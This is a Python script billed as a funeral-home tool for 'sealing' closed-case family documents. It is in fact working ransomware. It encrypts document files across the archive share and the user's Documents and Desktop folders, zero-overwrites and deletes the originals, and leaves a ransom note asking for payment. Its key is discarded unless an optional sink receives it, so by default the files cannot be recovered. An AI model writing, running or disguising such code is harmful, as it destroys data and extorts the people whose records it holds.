#!/usr/bin/env python3
"""Family document archive sealer.

Once a case is closed, the arrangement documents (contracts, death
certificates, permits) are sealed so that staff cannot casually edit them.
This walks the archive share and seals every document in place.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("sealer")

SEALED_SUFFIX = ".sealed"
DOC_TYPES = {".pdf", ".docx", ".doc", ".jpg", ".png", ".xlsx", ".odt", ".txt"}
NOTICE_NAME = "README_ARCHIVE_ACCESS.txt"
NOTICE_TEXT = (
    "The documents in this folder have been sealed.\n"
    "To restore access, contact records-desk@example.net with the ID below\n"
    "and follow the payment instructions you receive.\n"
    "ID: {ident}\n"
)


class Sealer:
    def __init__(self, roots, key_sink=None):
        self.roots = [Path(r) for r in roots]
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.key_sink = key_sink
        self.count = 0

    @property
    def ident(self):
        return self._key[:12].decode()

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in DOC_TYPES:
                        yield p

    def seal_one(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        # drop the editable copy so only the sealed version remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notice(self):
        for root in self.roots:
            try:
                (root / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=self.ident))
            except OSError as exc:
                LOG.debug("notice skipped for %s: %s", root, exc)

    def run(self):
        for path in self.candidates():
            try:
                self.seal_one(path)
            except (OSError, PermissionError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        self.leave_notice()
        if self.key_sink:
            self.key_sink(self._key)
        # key is not kept locally
        self._key = None
        return self.count


def default_roots():
    home = Path.home()
    return [
        os.environ.get("ARCHIVE_ROOT", "/srv/archive/families"),
        str(home / "Documents"),
        str(home / "Desktop"),
    ]


def main(argv=None):
    parser = argparse.ArgumentParser(description="Seal closed-case documents")
    parser.add_argument("roots", nargs="*", help="folders to seal")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    roots = args.roots or default_roots()
    sealer = Sealer(roots)

    if args.dry_run:
        for p in sealer.candidates():
            print(p)
        return 0

    done = sealer.run()
    LOG.info("sealed %d documents", done)
    return 0


if __name__ == "__main__":
    sys.exit(main())
